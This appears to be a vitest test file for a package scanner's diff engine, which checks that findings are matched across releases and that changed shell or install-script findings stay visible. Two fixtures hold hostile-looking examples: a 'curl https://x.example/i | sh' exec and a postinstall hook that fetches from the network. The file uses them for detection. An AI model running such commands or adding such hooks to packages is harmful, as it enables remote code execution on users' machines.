// Matching findings across versions by what they are: the cases are the artefact classes seen on 370
// real consecutive releases (bench/noise.ts), each as an old and a new finding, and the changes that
// must stay visible. Excerpts are the engine's (src/analyze/excerpt.ts): a long line is cut 40
// characters before the site and marked with `…`.
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/contract/index.js';
import { diffFindings } from '../../src/diff/own.js';
import { matchFindings, type MatchedBy } from '../../src/diff/match.js';
import { canonicalTokens, siteOf } from '../../src/diff/site.js';
import { editDistance, withinOneToken } from '../../src/diff/similar.js';

const f = (capability: string, api: string, file: string, excerpt: string, line = 1, column = 1): Finding => ({ capability, api, file, line, column, excerpt, confidence: 'high' });

interface Case {
  name: string;
  from: Finding[];
  to: Finding[];
}

/** The same code re-reported: nothing is new, nothing is gone. */
const same: (Case & { by: MatchedBy })[] = [
  {
    name: 'a minifier renamed the local bindings around the site',
    from: [f('network', 'fetch', 'dist/axios.min.js', '…rn Ae.hasOwnProp(t,e)?t[e]:void 0},D=i||fetch,_=_?(_+"").toLowerCase():"text",L=At([l,d&&d.toAbortSignal()],h),F=null,B=L&&L.unsubscri…', 4)],
    to: [f('network', 'fetch', 'dist/axios.min.js', '…rn je.hasOwnProp(t,e)?t[e]:void 0},U=i||fetch,S=S?(S+"").toLowerCase():"text",L=Nt([l,d&&d.toAbortSignal()],h),F=null,B=L&&L.unsubscri…', 4)],
    by: 'canonical',
  },
  {
    name: 'a version inside the excerpt',
    from: [f('shell', 'child_process.spawn', 'lib/main.js', 'let child = child_process.spawn(command, args.concat(`--service=${"0.27.4"}`, "--ping"), {', 2268)],
    to: [f('shell', 'child_process.spawn', 'lib/main.js', 'let child = child_process.spawn(command, args.concat(`--service=${"0.27.5"}`, "--ping"), {', 2272)],
    by: 'canonical',
  },
  {
    name: 'a rebuilt .node file of another byte size',
    from: [f('native', 'ELF binary', 'prebuilds/linux-x64.node', 'ELF binary (2228360 bytes)')],
    to: [f('native', 'ELF binary', 'prebuilds/linux-x64.node', 'ELF binary (2228368 bytes)')],
    by: 'canonical',
  },
  {
    name: "'node:http' became 'http', and quotes changed style",
    from: [f('network', 'http', 'lib/application.js', "var http = require('http');", 20)],
    to: [f('network', 'http', 'lib/application.js', 'var http = require("node:http");', 19)],
    by: 'canonical',
  },
  {
    name: 'a one-token edit of the line',
    from: [f('network', 'fetch', 'lib/adapters/fetch.js', '? _fetch(request, fetchOptions)', 436, 9)],
    to: [f('network', 'fetch', 'lib/adapters/fetch.js', '? _fetch(request, safeFetchOptions)', 489, 9)],
    by: 'edited',
  },
  {
    name: 'a pair of parentheses added',
    from: [f('env', 'process.env.npm_config_user_agent', 'bin.js', "w('.husky/pre-commit', p.env.npm_config_user_agent?.split('/')[0] ?? 'npm' + ' test\\n')", 18)],
    to: [f('env', 'process.env.npm_config_user_agent', 'bin.js', "w('.husky/pre-commit', (p.env.npm_config_user_agent?.split('/')[0] ?? 'npm') + ' test\\n')", 18)],
    by: 'edited',
  },
  {
    name: 'CommonJS became an ES module',
    from: [f('shell', 'child_process', 'lib/command.js', "const childProcess = require('node:child_process');", 2)],
    to: [f('shell', 'child_process', 'lib/command.js', "import childProcess from 'node:child_process';", 2)],
    by: 'canonical',
  },
  {
    name: 'TypeScript interop: __importDefault, .default and (0, f)(…)',
    from: [f('network', 'http', 'dist/index.js', 'const http = require("http");', 30), f('network', 'http.createServer', 'dist/index.js', 'srv = http.createServer((req, res) => {', 222)],
    to: [f('network', 'http', 'dist/index.js', 'const http_1 = __importDefault(require("http"));', 30), f('network', 'http.createServer', 'dist/index.js', 'srv = (0, http_1.createServer)((req, res) => {', 237)],
    by: 'canonical',
  },
  {
    name: 'a bundler suffixed a binding and renamed an import to itself',
    from: [f('shell', 'child_process', 'dist/node/chunks/node.js', 'import childProcess, { exec, execFile, execSync, spawn } from "node:child_process";', 17)],
    to: [f('shell', 'child_process', 'dist/node/chunks/node.js', 'import childProcess, { exec as exec$1, execFile as execFile$1, execSync, spawn } from "node:child_process";', 17)],
    by: 'canonical',
  },
  {
    name: 'a minified line changed elsewhere: the code around the site is the same',
    from: [f('network', 'XMLHttpRequest', 'dist/axios.min.js', '…emoveEventListener("abort",r)}var v=new XMLHttpRequest;function y(){if(v){var r=qe.from("getAllResponseHeaders"in v&&v.getAllResponseHeaders());bt(function(e){t…', 4)],
    to: [f('network', 'XMLHttpRequest', 'dist/axios.min.js', '…emoveEventListener("abort",r)}var y=new XMLHttpRequest;function b(r){if(y){if(!(0!==y.status||"file"===(At(Pt(c.url))||At(vt.origin))||y.responseURL&&y.response…', 4)],
    by: 'edited',
  },
  {
    name: 'a cut that begins inside a string',
    from: [f('network', 'fetch', 'dist/axios.min.js', '…id 0}),F=f&&new u(o,ae),e.n=11,f?D(F,T):D(o,ae);case 11:if(ue=e.v,se=qe.from(ue.headers),!x){e.n=12;break}if(!(null!=(ce=je.toFiniteNumber(se.getContentLength()…', 4)],
    to: [f('network', 'fetch', 'dist/axios.min.js', '…al")),F=f&&new u(o,ue),e.n=11,f?U(F,ae):U(o,ue);case 11:if(se=e.v,ce=ze.from(se.headers),!C){e.n=12;break}if(!(null!=(fe=ke.toFiniteNumber(ce.getContentLength()…', 4)],
    by: 'edited',
  },
  {
    name: 'a bundle moved to a new chunk file with renamed bindings',
    from: [f('shell', 'child_process.spawn', 'dist/index.cjs', '…t){if(process.platform!=="win32")return _.spawn(e,n,t);let o=t.env||process.env,r=pe(e,o,t.cwd||process.cwd());if(r&&/\\.(?:exe|com)$/i.test(r))return _.spawn(r,…', 7)],
    to: [f('shell', 'child_process.spawn', 'dist/cli.cjs', '…t){if(process.platform!=="win32")return k.spawn(e,r,t);let o=t.env||process.env,n=Y(e,o,t.cwd||process.cwd());if(n&&/\\.(?:exe|com)$/i.test(n))return k.spawn(n,r…', 2)],
    by: 'moved-edited',
  },
  {
    name: 'a presence file whose first line changed',
    from: [f('native', 'binding.gyp', 'src/binding.gyp', '# Copyright 2013 Lovell Fuller and others.')],
    to: [f('native', 'binding.gyp', 'src/binding.gyp', '# SPDX-FileCopyrightText: 2013 Lovell Fuller and others')],
    by: 'canonical',
  },
];

/** Changes that must stay visible: what is new, and what is gone. */
const changed: (Case & { added: number; gone: number })[] = [
  {
    name: 'a second identical call',
    from: [f('eval', 'eval', 'x.js', 'eval(code)')],
    to: [f('eval', 'eval', 'x.js', 'eval(code)'), f('eval', 'eval', 'x.js', 'eval(code)', 7)],
    added: 1,
    gone: 0,
  },
  {
    name: 'an API the file did not use',
    from: [f('filesystem', 'fs.readFileSync', 'a.js', "fs.readFileSync('x')")],
    to: [f('filesystem', 'fs.readFileSync', 'a.js', "fs.readFileSync('x')"), f('filesystem', 'fs.writeFileSync', 'a.js', "fs.writeFileSync('x')", 2)],
    added: 1,
    gone: 0,
  },
  {
    name: 'what a command says changed: a string is never an edit',
    from: [f('shell', 'child_process.exec', 'lib/run.js', "cp.exec('git status')", 3)],
    to: [f('shell', 'child_process.exec', 'lib/run.js', "cp.exec('curl https://x.example/i | sh')", 3)],
    added: 1,
    gone: 1,
  },
  {
    name: 'an install script with another body',
    from: [f('install-script', 'postinstall', 'package.json', '"postinstall": "node install.js",', 9)],
    to: [f('install-script', 'postinstall', 'package.json', '"postinstall": "node -e \\"require(\'https\').get(u)\\"",', 9)],
    added: 1,
    gone: 1,
  },
  {
    name: 'a binary of another size in another file is another binary',
    from: [f('native', 'ELF binary', 'prebuilds/linux-x64.node', 'ELF binary (2228360 bytes)')],
    to: [f('native', 'ELF binary', 'prebuilds/linux-riscv64.node', 'ELF binary (1998336 bytes)')],
    added: 1,
    gone: 1,
  },
  {
    name: 'a different call of the same API in the same file',
    from: [f('filesystem', 'fs.writeFileSync', 'src/exec.js', "fs.writeFileSync(paramsFile, JSON.stringify(paramsToSerialize), 'utf8');", 51)],
    to: [f('filesystem', 'fs.writeFileSync', 'src/exec.js', 'fs.writeFileSync(filePath, data, {', 61)],
    added: 1,
    gone: 1,
  },
  {
    name: 'similar short code in another file is not a move',
    from: [f('env', 'process.env.NODE_ENV', 'a.js', "if (process.env.NODE_ENV === 'development') {", 980)],
    to: [f('env', 'process.env.NODE_ENV', 'b.js', "if (process.env.NODE_ENV !== 'production') {", 179)],
    added: 1,
    gone: 1,
  },
];

describe('matchFindings: identical code is never new', () => {
  it.each(same)('$name', ({ from, to, by }) => {
    const m = matchFindings(from, to);
    expect({ added: m.added, gone: m.gone }).toEqual({ added: [], gone: [] });
    expect(m.pairs.map((p) => p.by)).toContain(by);
  });
});

describe('matchFindings: what is new stays new', () => {
  it.each(changed)('$name', ({ from, to, added, gone }) => {
    const m = matchFindings(from, to);
    expect([m.added.length, m.gone.length]).toEqual([added, gone]);
  });

  it('two sites on one minified line each find their own twin', () => {
    const line = (a: string, b: string) => [
      f('network', 'fetch', 'm.js', `…oe?j:void 0}),F=f&&new u(o,ae),e.n=11,f?${a}(F,T):${a}(o,ae);case 11:if(ue=e.v,se=qe.from(ue.headers),!x){e.n=12;break}`, 4),
      f('network', 'fetch', 'm.js', `…id 0}),F=f&&new u(o,ae),e.n=11,f?${a}(F,T):${a}(o,ae);case 11:if(ue=e.v,se=qe.from(ue.headers),!x){e.n=12;break}if(!${b}`, 4),
    ];
    expect(matchFindings(line('D', 'x'), line('U', 'y')).added).toEqual([]);
  });
});

describe('diffFindings', () => {
  it('reports new and gone findings with their location, sorted', () => {
    const r = diffFindings([f('filesystem', 'fs.readFileSync', 'a.js', "fs.readFileSync('x')", 2)], [f('network', 'https.request', 'a.js', 'https.request(o)', 5, 3)]);
    expect(r.newFindings).toEqual([{ capability: 'network', api: 'https.request', file: 'a.js', line: 5, column: 3, excerpt: 'https.request(o)', confidence: 'high' }]);
    expect(r.goneFindings.map((g) => g.api)).toEqual(['fs.readFileSync']);
  });

  it('moved code, in a file or to another, is not new', () => {
    const from = [f('shell', 'child_process.exec', 'lib/run.js', 'cp.exec(cmd)', 3), f('network', 'https.get', 'lib/a.js', 'https.get(url)', 3)];
    const to = [f('shell', 'child_process.exec', 'src/exec.js', 'cp.exec(cmd)', 1), f('network', 'https.get', 'lib/a.js', '  https.get(url);', 40)];
    expect(diffFindings(from, to)).toEqual({ newFindings: [], goneFindings: [] });
  });
});

describe('canonical sites', () => {
  it.each([
    ['minified names, node: prefixes, var and let', 'let iD=require("http"),iq=require("https");var iL=r("node:crypto")', "const _ = require ( 'http' ) , _ = require ( 'https' ) const _ = _ ( 'crypto' )"],
    ['numbers, digits in strings, suffixed bindings', "import_fs5.readFileSync(`v${'1.2.3'}`, 4096)", "import_fs . readFileSync ( 'v${'0'}' , 0 )"],
    ['property names stay, optional chaining is a member', 'process.env?.FORCE_COLOR', 'process . env . FORCE_COLOR'],
    ['comments and semicolons go', 'x = 1; /* note */ y(2) // tail', '_ = 0 _ ( 0 )'],
    ['import * as is a require', 'import * as path$1 from "node:path"', "const path = require ( 'path' )"],
    ['module.exports is exports', 'module.exports.env = process.env;', 'exports . env = process . env'],
  ])('%s', (_, excerpt, expected) => {
    expect(canonicalTokens(excerpt).join(' ')).toBe(expected);
  });

  it('anchors an uncut line at the API name, a cut one 40 characters in', () => {
    const uncut = siteOf({ excerpt: 'return spawnSync(...concatenateShell(file))', column: 9, api: 'child_process.spawnSync' });
    expect(uncut.tokens[uncut.anchor]).toBe('spawnSync');
    expect(uncut.anchored).toBe(true);
    const cut = siteOf({ excerpt: '…date prerender cache for",e,t)}}}let iD=require("http"),iq=', column: 900 });
    expect(cut.tokens[cut.anchor]).toBe('require');
  });

  it('edit distance never edits a string', () => {
    expect(editDistance(['a', '(', 'b', ')'], ['a', '(', 'c', ')'], 1)).toBe(1);
    expect(editDistance(['a', '(', "'x'", ')'], ['a', '(', "'y'", ')'], 2)).toBeUndefined();
    expect(editDistance(['a', '(', ')'], ['a', '(', "'y'", ')'], 2)).toBeUndefined();
    expect(withinOneToken(['f', "'a'"], ['f', "'b'"])).toBe(false);
    expect(withinOneToken(['f', 'a'], ['f', 'b'])).toBe(true);
  });
});
